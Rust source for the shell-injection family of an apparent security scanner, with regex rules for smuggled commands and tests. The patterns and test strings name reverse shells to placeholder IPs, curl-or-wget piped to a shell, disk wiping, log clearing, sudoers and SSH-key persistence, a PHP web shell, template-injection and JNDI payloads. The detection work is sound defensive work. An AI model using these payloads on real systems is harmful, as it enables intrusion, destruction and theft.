//! Shell: commands and substitutions smuggled into data.
//!
//! An honest command and a smuggled one use the same words, so a rule asks for more than a command: what it does harms
//! whatever its place (wipes a disk, opens a shell to the net, covers tracks), or it stands where data should stand
//! (a value goes on with `;` and a command, a file name holds a substitution, a template runs code).

use std::borrow::Cow;

use tappass_model::Family;

use crate::rule::{Hit, Rule};

/// Commands that a value has no reason to go on with; what attackers try first.
const COMMANDS: &str = r"(?:id|whoami|uname|pwd|ls|dir|cat|type|netstat|ifconfig|ipconfig|ping|sleep|timeout|wget|curl|n?cat|nc|netcat|telnet|nslookup|dig|ba?sh|zsh|python[23]?|perl|php|ruby|echo|printf|phpinfo|reg|net|netsh|env|printenv|ps|rm|touch|chmod|chown|powershell|pwsh|cmd|systeminfo|which|find|hostname|crontab|tftp|cp|mv|nmap|certutil|sudo|su|useradd|usermod|kill|mkfifo|base64|system|exec|eval|passthru)";
/// Space between the words of a command, plain or percent-encoded.
const GAP: &str = r"(?:[ \t]|%20|\+|\$\{IFS\})";
/// The start of a program's path.
const BIN: &str = r"(?:/?(?:usr/)?(?:local/)?s?bin/)";
/// A shell.
const SHELL: &str = r"(?:ba|z|da|k|c|tc)?sh";

/// (kind, weight, pattern): what harms whatever its place. `~` is a gap, `LINE` goes on within the command.
const HARMFUL: &[(&str, f32, &str)] = &[
    (
        "DESTRUCTION",
        0.9,
        r#"rm~{1,3}(?:-{1,2}[a-zA-Z-]{1,20}~{1,3}){1,4}(?:["'])?(?:/|\x7e|\$HOME|/\*|/(?:etc|usr|s?bin|boot|var|home|lib|root|dev|opt|srv)(?:/?\*?))["']?(?:[ \t\r\n;&|"'`)]|\\n|$)|rm~LINE{0,30}--no-preserve-root"#,
    ),
    (
        "DESTRUCTION",
        0.9,
        r"mkfs(?:\.[a-z0-9]{2,5})?~LINE{0,30}/dev/|dd~LINE{0,50}of=/dev/(?:sd|hd|nvme|vd|xvd|disk|mmcblk|mem)|wipefs~LINE{0,20}/dev/|shred~LINE{0,30}/dev/|>~?/dev/(?:sd|hd|nvme|vd|mem)|:\(\)~?\{~?:~?\|~?:~?&~?\}~?;~?:|chmod~(?:-[a-zA-Z]{1,4}~)?(?:777|000|a\+rwx)~/(?:[ \t\r\n;&|]|$)|chown~-R~LINE{1,20}~/(?:[ \t\r\n;&|]|$)|mv~LINE{1,30}~/dev/null|(?:format|del)~(?:/[fsqy]~?){1,4}~?[a-z]:(?:\\|[ \t]|$)|rd~/s~/q~[a-z]:\\",
    ),
    (
        "REMOTE_CODE",
        0.85,
        r#"(?:curl|wget|fetch|iwr|invoke-webrequest)~LINE{3,150}\|~?(?:sudo~(?:-[a-z]~)?)?BIN?(?:SHELL|python[23]?|perl|php|ruby|node|iex)(?:[ \t\r\n;&"'`)-]|$)|(?:SHELL|source|\.|eval)~(?:-c~)?["']?(?:<\(|\$\(|`)(?:curl|wget|fetch)~|(?:base64|xxd|openssl)~LINE{0,80}\|~?(?:sudo~)?BIN?(?:SHELL|python[23]?|perl|php)(?:[ \t\r\n;&"'`)-]|$)|(?:iex|invoke-expression)~?\(?~?(?:\(?new-object|\(?iwr|\(?irm|\(?\[text|\$)|downloadstring\(|powershell(?:\.exe)?~LINE{0,60}-e(?:nc(?:odedcommand)?)?~[a-z0-9+/=]{16}|certutil(?:\.exe)?~LINE{0,20}-(?:urlcache|decode)|bitsadmin~/transfer|mshta~https?:|regsvr32~LINE{0,20}/i:http|rundll32~javascript:"#,
    ),
    (
        "REVERSE_SHELL",
        0.95,
        r#"/dev/(?:tcp|udp)/[a-z0-9$]|(?:nc|ncat|netcat)(?:\.[a-z]{2,12})?~LINE{0,60}-[a-z]{0,6}e~?(?:["'])?(?:/|cmd|ba?sh|sh|powershell)|(?:nc|ncat|netcat)~LINE{0,60}\|~?BIN?SHELL|SHELL~-i~?(?:>&|<|[0-9]?>|2>&1)|mkfifo~LINE{3,40}(?:nc|ncat|netcat|openssl|telnet)~|socat~LINE{0,60}exec:|pty\.spawn\(|socket\.socket\(\)LINE{0,60}\.connect\(|import~LINE{0,30}socketLINE{0,60}\.connect\(|fsockopen\(LINE{0,80}(?:exec|system|proc_open|SHELL~-i)|exec\(["']/bin/(?:ba)?sh~-i|use~socket;|tcpsocket\.(?:new|open)\(LINE{0,80}(?:exec|spawn|popen)|telnet~LINE{3,40}\|~?BIN?SHELL"#,
    ),
    (
        "COVERING_TRACKS",
        0.85,
        r"history~-[cw]{1,2}(?:[ \t\r\n;&|]|$)|(?:rm|shred|unlink|truncate|>)~LINE{0,30}\.(?:bash|zsh|sh|python|mysql)_history|unset~histfile|histfile=(?:/dev/null|[ \t;])|histsize=0|(?:rm|shred|>|truncate)~LINE{0,30}/var/log/(?:auth|secure|syslog|wtmp|btmp|lastlog|audit|messages)|wevtutil~(?:cl|clear-log)~|clear-eventlog|auditpol~/clear",
    ),
    (
        "DEFENCE_OFF",
        0.8,
        r"ip6?tables~(?:-F|--flush|-P~(?:INPUT|OUTPUT|FORWARD)~ACCEPT)|nft~flush~ruleset|ufw~disable|setenforce~0|(?:systemctl|service)~(?:stop|disable|mask)~(?:firewalld|ufw|auditd|apparmor|rsyslog|falco|fail2ban|clamav|osqueryd|crowdstrike)|(?:systemctl|service)~(?:auditd|firewalld|ufw|apparmor)~stop|netsh~(?:adv)?firewall~LINE{0,40}(?:off|disable)|set-mppreference~LINE{0,30}-disable|fdenytsconnections|reg~(?:add|delete)~LINE{0,3}hk(?:lm|cu|ey_)LINE{1,80}/(?:f|d)(?:~|$)|echo~0~?>~?/proc/sys/kernel",
    ),
    (
        "RIGHTS",
        0.85,
        r"chmod~LINE{0,12}(?:777|666|o\+w|a\+w|a\+rwx|\+s)~/(?:etc/(?:shadow|passwd|sudoers)|(?:usr/)?bin/|root)|chmod~(?:u?\+s|[246]7[0-9]{2})~/(?:usr/)?(?:bin|tmp)/|(?:usermod|adduser|gpasswd|useradd)~LINE{0,40}~(?:sudo|wheel|docker|root|admin|adm)(?:~[a-z]|[ \t\r\n;&|]|$)|(?:useradd|adduser)~LINE{0,40}-(?:o~-u|u)~0|nopasswd:~?all|net~(?:user~[^ \n]{1,30}~[^ \n]{1,30}~/add|localgroup~administrators~)|aws~iam~(?:attach-(?:user|role|group)-policy|put-(?:user|role)-policy|create-(?:access-key|login-profile)|add-user-to-group)|clusterrole(?:binding)?~LINE{0,60}cluster-admin|add-iam-policy-binding~LINE{0,80}roles/(?:owner|editor)|docker~run~LINE{0,80}(?:-v~?/:/|--privileged|--pid=host)|nsenter~LINE{0,20}-t~1|setcap~cap_setuid|sudo~(?:su(?:~-(?:c|l)|~root|~-(?:[ \t\r\n;&|]|$))|-i(?:[ \t\r\n;&|]|$)|(?:ba)?sh(?:[ \t\r\n;&|]|$))",
    ),
    (
        "PERSISTENCE",
        0.85,
        r"(?:>>?|tee~(?:-a~)?)~?/etc/(?:sudoers|passwd|shadow|crontab|cron\.|ld\.so\.preload|rc\.local|profile|pam\.d|ssh/)|>>~?(?:~|\$home|/home/[a-z0-9_.-]{1,30}|/root)/\.(?:ssh/authorized_keys|bashrc|bash_profile|profile|zshrc)|\)?~?\|~?crontab~-(?:[ \t\r\n;&|]|$)|schtasks~/createLINE{0,60}/tr|(?:cp|mv|wget|curl)~LINE{1,80}/etc/(?:init\.d|cron\.[a-z]{1,7}|systemd/system)/",
    ),
    (
        "CREDENTIAL_FILES",
        0.7,
        r"(?:\\|/)repair(?:\\|/)(?:sam|system|security)|reg~save~hklm(?:\\|/)(?:sam|system|security)|c:(?:\\{1,2}|/)boot\.ini|(?:env|printenv|cat~LINE{1,30})~?\|~?(?:curl|wget|nc|ncat|netcat)~|(?:curl|wget)~LINE{0,80}(?:-d|-F|-T|--data(?:-binary|-raw)?|--post-file|--upload-file)[ =]?['\x22]?[a-z]{0,10}=?@?(?:/etc/|\x7e/\.|\$home/\.|\$\((?:cat|env|id|whoami|printenv)|`(?:cat|env|id|whoami)|\.env)",
    ),
    (
        "CREDENTIAL_FILES",
        0.5,
        r"(?:cat|less|more|head|tail|type|nl|strings|get_user_file|include|readfile|file_get_contents)(?:~|\(~?)['\x22]?(?:/etc/|\.\./etc/|\.\./\.\./)(?:passwd|group)(?:['\x22]?\)?~?(?:[\r\n;&|'\x22)}]|$))",
    ),
    ("SETUID_SEARCH", 0.45, r"find~/~LINE{0,40}-perm~[-/]?(?:u=s|g=s|\+?[46]000)"),
    ("SHELLSHOCK", 0.95, r"\(\)~?\{~?[^}\n]{0,12}[:;]~?;?~?\}~?;"),
    (
        "SERVER_INCLUDE",
        0.9,
        r"(?:<|&lt;|%3c)!--#(?:exec|include|echo)(?:~|%20|\+){1,3}(?:cmd|cgi|virtual|file|var)~?=",
    ),
    (
        "CODE_CALL",
        0.75,
        r#"<\?(?:php|=)?~?LINE{0,40}(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)~?\(|(?:system|passthru|shell_exec|proc_open|popen)~?\(~?["'](?:BIN)?COMMANDS(?:[ "']|$)|(?:exec|eval)~?\(~?["'](?:BIN)?(?:COMMANDS)(?:~[^"'\n]{0,60})?["']~?\)|(?:system|exec|passthru|shell_exec|eval|assert)~?\(~?\$_(?:get|post|request|cookie|server)"#,
    ),
    (
        "TEMPLATE_CODE",
        0.8,
        r#"\{\{LINE{0,60}(?:__class__|__globals__|__import__|__subclasses__|__mro__|popen~?\(|get_user_file|\.constructor|self\._|config\.(?:items|from)|lipsum|cycler\.)|\{\{~?[0-9]{1,4}~?\*~?'?[0-9]{1,4}'?~?\}\}|\$?\{{1,2}\$\{?|\$\{@?(?:print|system|eval|exec|passthru|phpinfo|sleep|shell_exec|jndi:|t~?\(|new~java|runtime)|\{\$\{|\{(?:php|system)\}|<%=?~?LINE{0,30}(?:system|exec|`|io\.popen)|#\{~?(?:`|system|exec|%x|t\(java)|\$\{jndi:"#,
    ),
    (
        "DNS_SUBSTITUTION",
        0.85,
        r"(?:\$\([^()\n]{1,120}\)|`[^`\n]{1,120}`)\.[a-z0-9-]{1,40}(?:\.[a-z0-9-]{1,40}){0,4}\.[a-z]{2,12}",
    ),
    ("MARKUP_WRITE", 0.65, r"echo(?:~|%20){1,2}['\x22]?(?:<|&lt;|%3c)(?:script|img|svg|\?php|iframe)"),
];

/// Commands that read a file or take it along.
const READING: &[&str] = &[
    "cat", "less", "more", "head", "tail", "type", "cp", "scp", "tar", "base64", "xxd", "nl", "strings",
    "grep", "curl",
];

/// All rules of the family.
pub(crate) fn rules() -> Vec<Rule> {
    let fill = |pattern: &str| {
        let regex = pattern
            .replace("COMMANDS", COMMANDS)
            .replace("BIN", BIN)
            .replace("SHELL", SHELL)
            .replace("LINE", r"[^\n]")
            .replace('~', GAP);
        Cow::Owned(format!("(?i:{regex})"))
    };
    let rule = |kind, score, pattern: &str| Rule {
        regex: fill(pattern),
        ..Rule::new(Family::Shell, kind, score, "")
    };
    let mut rules: Vec<Rule> =
        HARMFUL.iter().map(|(kind, score, pattern)| rule(*kind, *score, pattern).open()).collect();
    rules.extend([
        rule(
            "BREAKOUT",
            0.8,
            r#"(?:[;&|`]|&&|\|\||\$\(|%0[ad]|%3b|%7c|%26|\\n|\\r\\n){1,3}~{0,2}[`(]?(?:BIN)?COMMANDS"#,
        )
        .after(64)
        .check(breakout),
        rule("CREDENTIAL_FILES", 0.7, r"(?:/etc/(?:shadow|gshadow|sudoers)|\.ssh/id_[a-z0-9]{2,8}|\.aws/credentials|\.kube/config|\.docker/config\.json|/proc/self/environ|\.netrc|\.pgpass|\.git-credentials)").near(READING),
        rule("SUBSTITUTION", 0.75, r"[a-z0-9_.-]{1,60}\.[a-z0-9]{2,5}(?:\$\(|`)~?(?:BIN)?COMMANDS"),
        rule("SUBSTITUTION", 0.75, r"\$\(`[^`\n]{1,100}`\)|\$\{IFS\}").open(),
        rule("BARE_RECONNAISSANCE", 0.6, r"(?:whoami(?:~/(?:all|priv))?|uname(?:~-a)?|netstat(?:~-[a-z]{1,5})?|ifconfig|ipconfig(?:~/all)?|systeminfo|(?:which|whereis)~(?:nc|ncat|netcat|gcc|cc|wget|curl|perl|python[23]?|nmap)|net~(?:view|user|localgroup~administrators)|arp~-a|cat~/etc/(?:passwd|issue|group|hosts)|phpinfo\(\)|id;?)")
            .after(2)
            .check(bare),
    ]);
    rules
}

/// A command after what ends a value, and before it nothing but a value.
fn breakout(hit: &Hit<'_>) -> Option<f32> {
    let value = hit.before.trim_matches(['"', '\'', '`', ')', '(', ';', '\\', ' ']);
    // A value has no words and does not end a line: a table's cell, or a command that goes on in a new line, is none.
    let is_value = hit.before.len() < 40 && !value.contains(|c: char| c.is_whitespace() || "|{}".contains(c));
    let rest = hit.after;
    let table = hit.whole.starts_with('|')
        && (rest.contains(" | ")
            || rest.trim_end().ends_with('|') && rest.contains(' ') && !rest.contains('/'));
    // An assignment or an argument: a script's own substitution.
    let script = hit.whole.starts_with(['`', '$']) && hit.before.ends_with([' ', '=', '"', ':']);
    let word_goes_on = rest.starts_with(['-', '_', ':', '=', '.', ',', '\'']);
    // An entity of HTML (`&amp;`, `&type=` of a query) is no separator.
    let encoded = hit.whole.starts_with('&') && (rest.starts_with(';') || rest.starts_with('='));
    hit.when(is_value && !table && !script && !word_goes_on && !encoded)
}

/// The command is all there is.
fn bare(hit: &Hit<'_>) -> Option<f32> {
    let alone = hit.before.trim().is_empty() && hit.after.trim_matches([';', '\n', ' ']).is_empty();
    hit.when(alone && hit.whole != "id")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Scanner, family_score};

    fn score(text: &str) -> f32 {
        family_score(Family::Shell, &Scanner::new(&[Family::Shell], &[]).unwrap().scan(text))
    }

    #[test]
    fn smuggled_commands() {
        for text in [
            "rm -rf / --no-preserve-root",
            "photo.png$(curl http://203.0.113.9/x)",
            "; cat /etc/passwd",
            "10.0.0.1 && whoami",
            "%0a id %0a",
            "() { :;}; /bin/bash -c id",
            "wget -qO- http://198.51.100.7/i.sh | sudo bash",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "x=`whoami`.attacker.example",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "<?php system($_GET['c']); ?>",
            "echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
            "${jndi:ldap://203.0.113.9/a}",
        ] {
            assert!(score(text) >= 0.5, "{} {text}", score(text));
        }
    }

    #[test]
    fn honest_commands_and_talk() {
        for text in [
            "find . -name '*.tmp' -exec rm -f {} \\;",
            "ps aux | grep java | awk '{print $2}'",
            "rm -rf ./build && npm ci",
            "libdir=$(dirname $(which gcc))/lib",
            "| ls | lists files |\n| cat | prints a file |",
            "What does `rm -rf` do, and is it dangerous?",
            "cd /srv/app; ls -la",
            "Tom & Jerry; cat and mouse",
            "a=1&type=2",
            "chmod 755 /usr/local/bin/tool",
            "{\"id\": 3, \"name\": \"{{ user.name }}\"}",
            "curl -fsSL https://example.org/install.sh -o install.sh",
        ] {
            assert!(score(text) < 0.5, "{} {text}", score(text));
        }
    }
}
